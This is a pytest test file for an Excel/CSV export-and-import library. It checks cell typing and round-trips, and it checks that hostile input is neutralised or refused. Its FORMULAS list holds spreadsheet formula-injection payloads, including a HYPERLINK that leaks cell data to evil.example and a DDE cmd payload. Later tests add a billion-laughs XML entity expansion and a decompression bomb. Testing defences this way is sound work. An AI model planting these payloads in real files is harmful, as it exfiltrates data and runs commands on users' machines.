"""The formwork_excel package on its own: typed cells out, the same values back in."""
from __future__ import annotations

import csv
import io
import time
import zipfile
from collections import UserString
from datetime import date, datetime
from decimal import Decimal

import pytest
from formwork_excel import Column, Limits, UnreadableWorkbook, read_workbook, write_csv, write_workbook
from openpyxl import load_workbook

from tests.excel.conftest import bomb, raw_workbook, understated

COLUMNS = [Column("code", {"zh": "编号", "en": "Code"}), Column("amount", {"zh": "金额", "en": "Amount"}, "money"),
           Column("on", "Date", "date"), Column("at", "At", "datetime"), Column("n", "Count", "integer")]
ROWS = [["A-1", Decimal("1234567.5"), date(2024, 5, 31), datetime(2024, 5, 31, 8, 30), 3],
        ["长长的中文编号", None, None, None, None]]


def test_a_workbook_has_typed_formatted_cells_a_frozen_header_and_fitted_widths() -> None:
    content = write_workbook(COLUMNS, ROWS, title="订单/2024", language="zh")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "订单 2024"
    assert [c.value for c in sheet[1]] == ["编号", "金额", "Date", "At", "Count"]
    assert sheet["B2"].value == 1234567.5 and sheet["B2"].number_format == "#,##0.00"
    assert sheet["C2"].is_date and sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["D2"].number_format == "yyyy-mm-dd hh:mm" and sheet["E2"].number_format == "#,##0"
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert sheet.column_dimensions["A"].width >= 14 > sheet.column_dimensions["E"].width


def test_reading_gives_back_the_values_written() -> None:
    [sheet] = read_workbook(write_workbook(COLUMNS, ROWS, language="en"))
    assert sheet.header == ["Code", "Amount", "Date", "At", "Count"]
    assert sheet.rows[0] == ["A-1", Decimal("1234567.5"), date(2024, 5, 31), datetime(2024, 5, 31, 8, 30), 3]
    assert sheet.rows[1] == ["长长的中文编号", None, None, None, None] and sheet.numbers == [2, 3]


def test_csv_has_a_bom_and_exact_numbers() -> None:
    text = write_csv(COLUMNS, ROWS, language="zh").decode("utf-8")
    assert text.startswith("\ufeff编号,金额,Date,At,Count\r\n")
    assert "A-1,1234567.5,2024-05-31,2024-05-31 08:30,3" in text


def test_what_is_not_a_workbook_or_too_long_is_refused_with_a_reason() -> None:
    with pytest.raises(UnreadableWorkbook, match=r"not an Excel \.xlsx workbook"):
        read_workbook(b"code,amount\n")
    with pytest.raises(UnreadableWorkbook, match="more than 1 rows; split the file"):
        read_workbook(write_workbook(COLUMNS, ROWS), max_rows=1)


FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_text_that_looks_like_a_formula_is_written_to_xlsx_as_text_never_as_a_formula() -> None:
    columns = [Column("text", "=1+1 heading"), Column("amount", "Amount", "money"), Column("n", "N", "integer")]
    rows = [[text, Decimal("-5.5"), -3] for text in FORMULAS]
    content = write_workbook(columns, rows)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "=1+1 heading"
    for number, text in enumerate(FORMULAS, start=2):
        cell = sheet.cell(number, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
        assert (sheet.cell(number, 2).value, sheet.cell(number, 2).data_type) == (-5.5, "n")   # a number stays one
        assert (sheet.cell(number, 3).value, sheet.cell(number, 3).data_type) == (-3, "n")


def test_csv_cells_that_would_start_a_formula_get_a_leading_quote_and_numbers_stay_numbers() -> None:
    columns = [Column("text", "@heading"), Column("amount", "Amount", "money")]
    rows = [[text, Decimal("-5.5")] for text in FORMULAS] + [[UserString("=1+1"), -1.5],
                                                              ["a - b = c", Decimal("-0.01")], ["'quoted", None]]
    text = write_csv(columns, rows).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == ["'@heading", "Amount"]
    assert lines[1:len(FORMULAS) + 1] == [["'" + formula, "-5.5"] for formula in FORMULAS]
    assert lines[-3:] == [["'=1+1", "-1.5"], ["a - b = c", "-0.01"], ["'quoted", ""]]   # text by any name


def test_a_decompression_bomb_is_refused_before_it_is_parsed() -> None:
    content = bomb()                                    # ~200 KB that unzip to a 200 MB cell
    assert len(content) < 300 * 1024
    started = time.monotonic()
    with pytest.raises(UnreadableWorkbook, match="more than 64 MB once unzipped") as refused:
        read_workbook(content)
    assert refused.value.reason == "uncompressed" and time.monotonic() - started < 2
    with pytest.raises(UnreadableWorkbook) as lying:   # the same bomb, its zip directory claiming 1 KB
        read_workbook(understated(content))
    assert lying.value.reason == "unreadable" and time.monotonic() - started < 4


def test_sheets_past_the_row_cell_text_or_time_limits_are_refused_quickly() -> None:
    started = time.monotonic()
    far = raw_workbook('<row r="1"><c r="A1"><v>1</v></c></row><row r="900000000"><c r="A900000000"><v>2</v></c></row>')
    with pytest.raises(UnreadableWorkbook, match="past Excel's last row") as refused:
        read_workbook(far)
    assert refused.value.reason == "rows"
    wide = raw_workbook("".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 200)))
    with pytest.raises(UnreadableWorkbook, match="more than 100000 cells") as refused:
        read_workbook(wide, limits=Limits(cells=100_000))   # 199 rows of 16384 cells once openpyxl fills them in
    assert refused.value.reason == "cells"
    repeated = raw_workbook("".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 1001)),
                            [b"x" * 30000])           # one 30,000-character string shown in 1000 cells
    with pytest.raises(UnreadableWorkbook, match="more than 16000000 characters") as refused:
        read_workbook(repeated)
    assert refused.value.reason == "text"
    too_long = raw_workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', [b"x" * 40000])
    with pytest.raises(UnreadableWorkbook, match="more than 32767 characters") as refused:
        read_workbook(too_long)
    assert refused.value.reason == "cell_text"
    assert time.monotonic() - started < 10
    content = write_workbook(COLUMNS, ROWS * 50)
    with pytest.raises(UnreadableWorkbook, match="more than 20 cells"):
        read_workbook(content, limits=Limits(cells=20))
    with pytest.raises(UnreadableWorkbook, match="took more than 0 seconds") as refused:
        read_workbook(content, limits=Limits(seconds=0))
    assert refused.value.reason == "seconds"


def test_xml_entity_expansion_is_refused_not_expanded() -> None:
    laughs = ('<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
              '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
              '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
              '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>')
    content = raw_workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>&h;</t></is></c></row>', doctype=laughs)
    with pytest.raises(UnreadableWorkbook) as refused:
        read_workbook(content)
    assert refused.value.reason == "unreadable"
